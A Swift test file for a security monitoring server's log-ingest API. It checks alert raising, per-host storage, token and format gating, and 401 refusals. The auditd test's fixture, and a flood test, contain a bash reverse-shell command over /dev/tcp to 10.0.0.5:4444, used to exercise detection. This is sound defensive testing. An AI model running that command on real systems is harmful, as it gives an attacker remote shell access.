import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import Testing
import VigilTestSupport
import VigilIngest
import VigilModel
import VigilServer
@testable import VigilStore

/// The edges of a push that a mutation left unguarded, held over HTTP.
@Suite(.runsOn(.servers)) struct PushEdgeTests {
    func push(_ client: some TestClientProtocol, _ token: String, _ uri: String, _ body: String) async throws -> (HTTPResponse.Status, [String: Any]) {
        try await client.execute(uri: uri, method: .post, headers: headers(token), body: ByteBuffer(string: body)) {
            ($0.status, json($0.body))
        }
    }

    @Test func aBodyEndingWithAPendingClamAVRecordStoresItAndRaisesTheAlert() async throws {
        let fixture = try ServerFixture()
        try await fixture.app().test(.router) { client in
            let (status, reply) = try await push(client, fixture.clamavToken, "/api/v1/ingest?format=clamav&hostname=web-01",
                                                 "/tmp/eicar.com.txt: Win.Test.EICAR_HDB-1.UNOFFICIAL FOUND\n")
            #expect(status == .ok)
            #expect(reply["accepted"] as? Int == 1)
            #expect(reply["alerts_raised"] as? Int == 1)
        }
        #expect(try fixture.store().alerts(AlertFilter()).map(\.title) == ["EICAR test file detected"])
    }

    @Test func aBodyEndingInsideAnAuditdGroupStoresTheProcessAndRaisesTheAlert() async throws {
        let fixture = try ServerFixture()
        let store = try fixture.store()
        try store.setIntegration("auditd", enabled: true, actor: "test")
        let token = AccessToken.generate()
        _ = try store.createToken(integration: "auditd", hash: token.hash, expiresAt: Timestamp.now() + .seconds(3600), actor: "test")
        let body = """
            type=SYSCALL msg=audit(1764237600.000:7): syscall=59 success=yes ppid=10 pid=11 uid=0 comm="bash" exe="/bin/bash"
            type=EXECVE msg=audit(1764237600.000:7): argc=3 a0="bash" a1="-i" a2=">& /dev/tcp/10.0.0.5/4444 0>&1"

            """
        try await fixture.app().test(.router) { client in
            let (status, reply) = try await push(client, token.token, "/api/v1/ingest?format=auditd&hostname=web-01", body)
            #expect(status == .ok)
            #expect(reply["accepted"] as? Int == 3)
            #expect(reply["alerts_raised"] as? Int == 1)
        }
        #expect(try fixture.store().alerts(AlertFilter()).map(\.title) == ["Reverse shell command line"])
    }

    @Test func theSamePushForTwoHostsIsStoredForEach() async throws {
        let fixture = try ServerFixture()
        let log = try String(contentsOf: corpusLogs.appendingPathComponent("clamav/clamscan_l.log"), encoding: .utf8)
        try await fixture.app().test(.router) { client in
            var accepted: [Int] = []
            for host in ["web-01", "web-02", "web-01"] {
                let (status, reply) = try await push(client, fixture.clamavToken, "/api/v1/ingest?format=clamav&hostname=\(host)", log)
                #expect(status == .ok)
                accepted.append(reply["accepted"] as? Int ?? -1)
            }
            #expect(accepted[0] > 0)
            #expect(accepted == [accepted[0], accepted[0], 0])
        }
        let hosts = try fixture.store().alerts(AlertFilter()).map(\.hostname)
        #expect(Set(hosts) == ["web-01", "web-02"])
        #expect(hosts.filter { $0 == "web-01" }.count == hosts.filter { $0 == "web-02" }.count)
    }

    /// Data cannot switch a rule off for everyone: huge values pushed first leave the EICAR
    /// detection (and every regex rule) working for the next push.
    @Test func hugeFieldsCannotTurnTheEICARDetectionIntoAGenericOne() async throws {
        let fixture = try ServerFixture()
        let huge = String(repeating: "bash -i >& /dev/tcp/", count: 4 * 1024 * 1024 / 20)
        let flood = (0..<3).map { _ in #"{"hostname":"attacker","logsource":{"category":"antivirus"},"Signature":"\#(huge)"}"# }
        try await fixture.app().test(.router) { client in
            let (status, _) = try await push(client, fixture.jsonToken, "/api/v1/ingest?format=json", flood.joined(separator: "\n"))
            #expect(status == .ok)
            let (eicarStatus, reply) = try await push(client, fixture.clamavToken, "/api/v1/ingest?format=clamav&hostname=web-01",
                                                      "/tmp/eicar.com.txt: Win.Test.EICAR_HDB-1.UNOFFICIAL FOUND\n")
            #expect(eicarStatus == .ok)
            #expect(reply["alerts_raised"] as? Int == 1)
        }
        let titles = try fixture.store().alerts(AlertFilter(machine: "web-01")).map(\.title)
        #expect(titles == ["EICAR test file detected"])
    }

    @Test func aJSONArrayWithEscapedQuotesStoresEveryElement() async throws {
        let fixture = try ServerFixture()
        try await fixture.app().test(.router) { client in
            var (status, reply) = try await push(client, fixture.jsonToken, "/api/v1/ingest?hostname=web-01",
                                                 #"[{"msg":"5\" pipe","n":1},{"msg":"plain","n":2}]"#)
            #expect(status == .ok)
            #expect(reply["accepted"] as? Int == 2)
            #expect(reply["rejected"] as? Int == 0)
            (status, reply) = try await push(client, fixture.jsonToken, "/api/v1/ingest?hostname=web-01",
                                             #"[{"msg":"}]\"[{","n":3}, {"msg":"\\","n":4}]"#)
            #expect(status == .ok)
            #expect(reply["accepted"] as? Int == 2)
        }
        #expect(try fixture.store().count(.events) == 4)
    }

    /// A token's integration, toggle and formats are checked before any body byte reaches a
    /// parser: a clamav token naming CEF is refused before its (oversized) body is read, and a
    /// CEF body it sends as `auto` is refused once detected, before the CEF parser sees it.
    @Test func theGateComesBeforeTheParser() async throws {
        let fixture = try ServerFixture()
        let cef = "CEF:0|Acme|AV|1.0|100|Malware found|8|rt=Nov 27 2026 10:00:00 dhost=h\n"
        try await fixture.app(bodyLimit: 1024).test(.router) { client in
            let oversized = String(repeating: cef, count: 100)
            var (status, reply) = try await push(client, fixture.clamavToken, "/api/v1/ingest?format=cef", oversized)
            #expect(status == .unprocessableContent, "the format is refused before the body's size matters")
            #expect((reply["error"] as? [String: Any])?["message"] as? String ?? "" == "the integration 'clamav' does not send 'cef' data (it sends: clamav). Pick the right --integration or --format.")
            (status, reply) = try await push(client, fixture.clamavToken, "/api/v1/ingest", cef)
            #expect(status == .unprocessableContent)
        }
        let store = try fixture.store()
        #expect(try store.count(.events) == 0)
        #expect(try store.audit(limit: 10).filter { $0.details.contains("does not send 'cef'") }.count == 2)
    }

    /// After offboarding, a push with the old token is refused, counted and audited.
    @Test func aRefusalAfterOffboardingIsAuditedAndCounted() async throws {
        let fixture = try ServerFixture()
        try await fixture.app().test(.router) { client in
            try await client.execute(uri: "/api/v1/integrations/clamav/off", method: .post, headers: headers(fixture.adminKey)) {
                #expect($0.status == .ok)
            }
            let (status, _) = try await push(client, fixture.clamavToken, "/api/v1/ingest?format=clamav", "/tmp/x: Eicar FOUND\n")
            #expect(status == .unauthorized)
            try await client.execute(uri: "/metrics", method: .get) { response in
                #expect(String(buffer: response.body).contains(#"vigil_pushes_refused_total{integration="clamav"} 1"#))
            }
        }
        let refusals = try fixture.store().audit(limit: 20).filter { $0.details.contains("revoked") && $0.actor == "http" }
        #expect(refusals.count == 1)
    }

    @Test func aTokenOneCharacterAwayFromAValidOneIsRefused() async throws {
        let fixture = try ServerFixture()
        let valid = fixture.jsonToken
        let near = String(valid.dropLast()) + (valid.last == "A" ? "B" : "A")
        try await fixture.app().test(.router) { client in
            let (status, reply) = try await push(client, near, "/api/v1/ingest?hostname=web-01", #"{"n":1}"#)
            #expect(status == .unauthorized)
            #expect((reply["error"] as? [String: Any])?["message"] as? String ?? "" != "")
        }
        #expect(try fixture.store().count(.events) == 0)
    }

    /// Every route of each group (push, read, admin), with no credentials, a non-bearer scheme
    /// and an unknown key of the right shape.
    @Test func everyRouteGroupRefusesMissingAndWrongCredentialsWith401() async throws {
        let fixture = try ServerFixture()
        let routes: [(HTTPRequest.Method, String)] = [
            (.post, "/api/v1/ingest"),
            (.get, "/api/v1/alerts"), (.get, "/api/v1/alerts/1"), (.patch, "/api/v1/alerts/1"), (.get, "/api/v1/incidents"),
            (.get, "/api/v1/machines"), (.get, "/api/v1/integrations"),
            (.post, "/api/v1/integrations/clamav/on"), (.post, "/api/v1/integrations/clamav/off"), (.post, "/api/v1/integrations/clamav/tokens"),
        ]
        let credentials: [HTTPFields] = [
            [:],
            [.authorization: "Basic dXNlcjpwYXNz"],
            headers(APIKey.generate().key),
        ]
        try await fixture.app().test(.router) { client in
            for (method, uri) in routes {
                for fields in credentials {
                    try await client.execute(uri: uri, method: method, headers: fields, body: ByteBuffer(string: #"{"status":"resolved"}"#)) { response in
                        #expect(response.status == .unauthorized, "\(method) \(uri) with \(fields)")
                        #expect(json(response.body)["error"] != nil, "\(method) \(uri): the refusal explains itself")
                    }
                }
            }
        }
        let store = try fixture.store()
        #expect(try store.count(.events) == 0)
        #expect(try store.integrations().first { $0.name == "clamav" }?.enabled == true)
    }
}
